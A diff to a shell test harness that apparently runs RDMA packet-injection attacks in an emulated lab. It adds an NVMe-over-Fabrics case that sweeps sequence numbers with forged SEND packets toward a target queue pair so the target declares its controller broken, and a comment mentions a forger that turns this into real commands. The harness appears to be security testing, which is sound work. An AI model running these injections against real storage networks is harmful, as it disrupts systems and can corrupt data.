@@ -63,6 +63,21 @@ _cell_inject_rounds() {
 	[ $sent -gt 0 ]
 }
 
+# nvmf: forged SEND Only packets (20 bytes) from the PSN after a command
+# capsule captured just before, to that I/O queue's QP of the target: the
+# one at the expected PSN is a capsule shorter than the 64-byte submission
+# entry, and the target declares its controller fatally broken (the other
+# developer's capsule forger makes it a real command). The sweep (about 7000
+# packets/s) overtakes fio's capsules (about 60 writes/s, 5 PSNs each).
+_cell_inject_nvmf() {
+	fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
+		--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):40000" --iface fab3 --sport 4242 "${data[@]}" \
+		--json >"$CELL/attack.json" 2>"$CELL/attack.err" &
+	cell_nvmf_watch $! 15
+	echo "inject exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
+	cell_nvmf_verdict inject "20-byte SENDs from PSN $((WIRE_PSN + 1)) at QP $WIRE_QPN"
+}
+
 cell_inject() {
 	local v=$1 line data=(--data "$CELL_INJECT_TEXT") sweep ap gap note=''
 	# A sweep overtakes a stream only if it is faster: on the emulated fabric
@@ -73,7 +88,7 @@ cell_inject() {
 	# timeout would end the client the way a broken one does), after a slow
 	# start-up and 30 s of rounds. ucmatose: still there when a slow start-up
 	# is over.
-	case "$v" in rping) VICTIM_SECONDS=70 ;; ucmatose) VICTIM_SECONDS=40 ;; esac
+	case "$v" in rping) VICTIM_SECONDS=70 ;; ucmatose) VICTIM_SECONDS=40 ;; nvmf) VICTIM_SECONDS=30 ;; esac
 	[ "$v" = ucmatose ] && cell_cm_capture_start
 	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
 	cell_cm_stop
@@ -94,6 +109,10 @@ cell_inject() {
 	rdmasec) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 data=(--data-hex "$CELL_INJECT_FRAME") ;;
 	*) sweep=$(((WIRE_PSN + 1) & 0xffffff)):200000 ;;
 	esac
+	if [ "$v" = nvmf ]; then
+		_cell_inject_nvmf
+		return
+	fi
 	if [ "$v" = rping ]; then
 		gap=''
 		_cell_inject_rounds
